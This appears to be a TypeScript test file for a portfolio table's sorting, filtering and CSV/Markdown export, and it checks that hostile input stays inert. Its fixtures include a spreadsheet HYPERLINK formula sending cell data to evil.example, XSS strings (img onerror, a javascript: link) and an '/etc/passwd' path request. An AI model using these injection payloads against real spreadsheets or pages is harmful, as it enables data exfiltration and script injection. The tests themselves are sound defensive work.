/** The portfolio as rows: sort, filter, counts, and CSV and Markdown that stay text. */
import assert from 'node:assert/strict';
import {
  compareCells,
  csvField,
  DEFAULT_VIEW,
  filterText,
  markdownCell,
  matchesFilter,
  portfolioRows,
  type PortfolioRow,
  toCsv,
  toMarkdown,
  visibleRows,
} from '../../client/src/preview/portfolioTable.js';
import { renderPortfolioBody } from '../../client/src/preview/portfolioPage.js';
import { parsePortfolioMessage, parsePortfolioView } from '../../client/src/preview/messages.js';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmTable } from 'micromark-extension-gfm-table';
import { gfmTableFromMarkdown } from 'mdast-util-gfm-table';
import { examplePortfolio } from './planData.js';

const ids = (rows: readonly PortfolioRow[]) => rows.map((r) => r.id);

/** A row whose every text is hostile. */
function hostileRow(): PortfolioRow {
  const [base] = portfolioRows(examplePortfolio());
  return {
    ...base!,
    id: '=HYPERLINK("https://evil.example/?"&A1,"click")',
    title:
      '| broken | table `code` <img src=x onerror=alert(1)> [x](javascript:alert(1)) <https://evil.example> www.evil.example @team #12 **bold**',
    service: '+SUM(1,2);\r\n-2\ttab, "quoted"',
    goLive: '@now',
    next: '\tM-01 2026-12-04',
  };
}

describe('client: portfolio table', () => {
  describe('rows and counts', () => {
    it('shows a go-live date written but not read as written', () => {
      const portfolio = examplePortfolio();
      const [first] = portfolio.plans;
      const overview = { ...first!.overview, dates: { ...first!.overview.dates, goLive: undefined } };
      const unread = { ...first!, overview: { ...overview, datesWritten: { goLive: 'Q1 2027' } } };
      const rows = portfolioRows({ ...portfolio, plans: [unread] });
      assert.equal(rows[0]!.goLive, 'Q1 2027 (not read)');
      assert.equal(portfolioRows({ ...portfolio, plans: [{ ...first!, overview }] })[0]!.goLive, '');
    });

    it('shows a health written but not read as written, escaped, sorted and grouped as not read', () => {
      const portfolio = examplePortfolio();
      const payroll = portfolio.plans.find((p) => p.overview.id === 'TP-2026-014')!;
      const overview = { ...payroll.overview, health: undefined, healthWritten: 'Green <b>with</b> concerns' };
      const rows = portfolioRows({ ...portfolio, plans: [{ ...payroll, overview }] });
      assert.equal(rows[0]!.health, 'not-read');
      assert.equal(rows[0]!.healthText, 'Green <b>with</b> concerns (not read)');
      assert.ok(matchesFilter(filterText(rows[0]!), 'concerns'));
      assert.match(toCsv(rows), /Green <b>with<\/b> concerns \(not read\)/);
      const html = String(renderPortfolioBody({ ...portfolio, plans: [{ ...payroll, overview }] }));
      assert.match(
        html,
        /<span class="badge health health-not-read">Green &lt;b&gt;with&lt;\/b&gt; concerns \(not read\)<\/span>/,
      );
      assert.ok(!html.includes('<b>with</b>'));
    });

    it('has one row per plan in the portfolio order, with finding counts per plan', () => {
      const rows = portfolioRows(examplePortfolio());
      assert.deepEqual(ids(rows), ['TP-2026-031', 'TP-2026-022', 'TP-2026-014', 'TP-2026-009']);
      const planning = rows.find((r) => r.id === 'TP-2026-022')!;
      assert.deepEqual([planning.errors, planning.warnings, planning.infos], [3, 4, 0]);
      const payroll = rows.find((r) => r.id === 'TP-2026-014')!;
      assert.deepEqual([payroll.health, payroll.handoversAccepted, payroll.handoversTotal], ['green', 0, 6]);
      assert.equal(rows.find((r) => r.id === 'TP-2026-009')!.health, 'not-rated');
    });
  });

  describe('sort', () => {
    const rows = portfolioRows(examplePortfolio());

    it('sorts by a column both ways; ties keep the portfolio order', () => {
      const byErrors = visibleRows(rows, { sort: 'errors', direction: 'descending', filter: '' });
      assert.deepEqual(
        byErrors.map((r) => r.errors),
        [...rows.map((r) => r.errors)].sort((a, b) => b - a),
      );
      assert.equal(byErrors[0]!.id, 'TP-2026-022');
      const byId = visibleRows(rows, { sort: 'id', direction: 'ascending', filter: '' });
      assert.deepEqual(ids(byId), ['TP-2026-009', 'TP-2026-014', 'TP-2026-022', 'TP-2026-031']);
      const byIdDown = visibleRows(rows, { sort: 'id', direction: 'descending', filter: '' });
      assert.deepEqual(ids(byIdDown), [...ids(byId)].reverse());
      // Stage sorts in lifecycle order, not alphabetically.
      const byStage = visibleRows(rows, { sort: 'stage', direction: 'ascending', filter: '' });
      assert.deepEqual(
        byStage.map((r) => r.stage),
        ['initiation', 'planning', 'control', 'closed'],
      );
      // Health: red, amber, green, then not set and not rated.
      const byHealth = visibleRows(rows, { sort: 'health', direction: 'ascending', filter: '' });
      assert.deepEqual(
        byHealth.map((r) => r.health),
        [...byHealth.map((r) => r.health)].sort(
          (a, b) =>
            ['red', 'amber', 'green', 'not-set', 'not-rated'].indexOf(a) -
            ['red', 'amber', 'green', 'not-set', 'not-rated'].indexOf(b),
        ),
      );
      assert.equal(byHealth.at(-1)!.health, 'not-rated');
    });

    it('lists empty cells last in both directions and compares numbers as numbers', () => {
      assert.ok(compareCells('', '2026-01-01', 'ascending') > 0);
      assert.ok(compareCells('', '2026-01-01', 'descending') > 0);
      assert.ok(compareCells(9, 10, 'ascending') < 0);
      assert.ok(compareCells('TP-9', 'TP-10', 'ascending') < 0, 'ids compare with numeric collation');
      assert.equal(compareCells(3, 3, 'descending'), 0);
    });
  });

  describe('filter', () => {
    const rows = portfolioRows(examplePortfolio());

    it('keeps the rows whose id, title, service, stage or health hold every word, case-insensitively', () => {
      assert.deepEqual(ids(visibleRows(rows, { ...DEFAULT_VIEW, filter: 'PAYROLL' })), ['TP-2026-014']);
      assert.deepEqual(ids(visibleRows(rows, { ...DEFAULT_VIEW, filter: 'not rated' })), [
        'TP-2026-031',
        'TP-2026-009',
      ]);
      assert.deepEqual(ids(visibleRows(rows, { ...DEFAULT_VIEW, filter: 'closed fax' })), ['TP-2026-009']);
      assert.deepEqual(ids(visibleRows(rows, { ...DEFAULT_VIEW, filter: 'planning' })), ['TP-2026-022']);
      assert.deepEqual(visibleRows(rows, { ...DEFAULT_VIEW, filter: 'no such plan' }), []);
      assert.equal(visibleRows(rows, { ...DEFAULT_VIEW, filter: '   ' }).length, rows.length);
      assert.equal(matchesFilter('abc def', 'DEF abc'), true);
      assert.equal(matchesFilter('abc def', 'abx'), false);
    });

    it('filters, then sorts', () => {
      const view = { sort: 'id', direction: 'descending', filter: 'not rated' } as const;
      assert.deepEqual(ids(visibleRows(rows, view)), ['TP-2026-031', 'TP-2026-009']);
    });
  });

  describe('CSV', () => {
    it('has a header and one line per row, CRLF-terminated (RFC 4180)', () => {
      const rows = portfolioRows(examplePortfolio());
      const csv = toCsv(rows);
      const lines = csv.split('\r\n');
      assert.equal(lines.pop(), '');
      assert.equal(lines.length, rows.length + 1);
      assert.equal(
        lines[0],
        'ID,Title,Service,Stage,Health,Go-live,Next milestone,Open high risks,Handovers accepted,Handovers total,Errors,Warnings,Info',
      );
      assert.match(lines[2]!, /^TP-2026-022,.*,Planning,.*,3,4,0$/);
    });

    it('neutralises formulas and quotes fields with quotes, commas or semicolons', () => {
      for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
        const field = csvField(`${lead}1+1`);
        assert.ok(/^"?'/.test(field), `${JSON.stringify(lead)} is not neutralised: ${field}`);
      }
      assert.equal(csvField('a "b", c'), '"a ""b"", c"');
      assert.equal(csvField('plain'), 'plain');
      assert.equal(csvField(7), '7');
      assert.equal(csvField('line\r\nbreak'), 'line break');
      assert.equal(csvField('bell\x07'), 'bell\\x07');
    });

    it('writes a hostile row as inert text: no formula cell, no extra line or column', () => {
      const csv = toCsv([hostileRow()]);
      const [header, line, end] = csv.split('\r\n');
      assert.equal(end, '');
      // Split on commas outside quotes: the row has as many fields as the header.
      const fields = line!.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.filter((f) => f !== '');
      assert.equal(fields.length, header!.split(',').length);
      for (const f of fields) {
        const value = f.replace(/,$/, '').replace(/^"|"$/g, '');
        assert.doesNotMatch(value, /^[=+\-@\t\r]/, `formula-like cell: ${value}`);
      }
      assert.ok(line!.startsWith(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`));
    });
  });

  describe('Markdown', () => {
    function parse(md: string) {
      return fromMarkdown(md, { extensions: [gfmTable()], mdastExtensions: [gfmTableFromMarkdown()] });
    }

    it('is a GFM table with the same cells as the CSV', () => {
      const rows = portfolioRows(examplePortfolio());
      const md = toMarkdown(rows, '2026-11-25');
      const table = parse(md).children.find((n) => n.type === 'table');
      assert.ok(table && table.type === 'table');
      assert.equal(table.children.length, rows.length + 1);
      const csvHeader = toCsv([]).trim().split(',');
      assert.deepEqual(
        table.children[0]!.children.map((c) => (c.children[0] as { value?: string } | undefined)?.value),
        csvHeader,
      );
      assert.match(md, /^Transition portfolio as of 2026-11-25 \(4 plans\)/);
    });

    it('keeps hostile text as text: one cell, no link, HTML, code, emphasis, mention or autolink', () => {
      const row = hostileRow();
      const md = toMarkdown([row], '2026-11-25');
      const tree = parse(md);
      const table = tree.children.find((n) => n.type === 'table');
      assert.ok(table && table.type === 'table');
      const cells = table.children[1]!.children;
      assert.equal(cells.length, 13, 'the pipe did not split the cell');
      const kinds = new Set<string>();
      const walk = (node: { type: string; children?: unknown[] }) => {
        kinds.add(node.type);
        for (const c of node.children ?? []) walk(c as { type: string; children?: unknown[] });
      };
      walk(tree);
      for (const bad of ['link', 'html', 'inlineCode', 'strong', 'emphasis', 'image']) {
        assert.ok(!kinds.has(bad), `${bad} in the Markdown`);
      }
      // Bare URLs, mentions and references are broken up (GFM would link them).
      const titleCell = md.split('\n')[4]!;
      assert.doesNotMatch(titleCell, /https:\/\/|www\.|@team|#12/);
      assert.equal(markdownCell('a|b'), 'a\\|b');
      assert.equal(markdownCell('`x`'), '\\`x\\`');
      assert.equal(markdownCell('<https://x.example>'), '&lt;https&#58;//x.example&gt;');
    });
  });

  describe('the view the webview reports', () => {
    it('accepts a sort column, a direction and a short filter, and nothing else', () => {
      assert.deepEqual(parsePortfolioView({ sort: 'errors', direction: 'descending', filter: 'pay' }), {
        sort: 'errors',
        direction: 'descending',
        filter: 'pay',
      });
      assert.deepEqual(parsePortfolioView({ direction: 'ascending', filter: '' }), DEFAULT_VIEW);
      assert.equal(parsePortfolioView({ sort: 'toString', direction: 'ascending', filter: '' }), undefined);
      assert.equal(parsePortfolioView({ sort: 'id', direction: 'up', filter: '' }), undefined);
      assert.equal(parsePortfolioView({ direction: 'ascending', filter: 'x'.repeat(201) }), undefined);
      assert.equal(parsePortfolioView({ direction: 'ascending', filter: '', extra: 1 }), undefined);
      const known = new Set<string>();
      assert.deepEqual(parsePortfolioMessage({ type: 'copyMarkdown' }, known), { type: 'copyMarkdown' });
      assert.deepEqual(parsePortfolioMessage({ type: 'exportCsv' }, known), { type: 'exportCsv' });
      assert.equal(parsePortfolioMessage({ type: 'exportCsv', path: '/etc/passwd' }, known), undefined);
      assert.equal(
        parsePortfolioMessage({ type: 'view', view: { direction: 'sideways', filter: '' } }, known),
        undefined,
      );
    });
  });
});
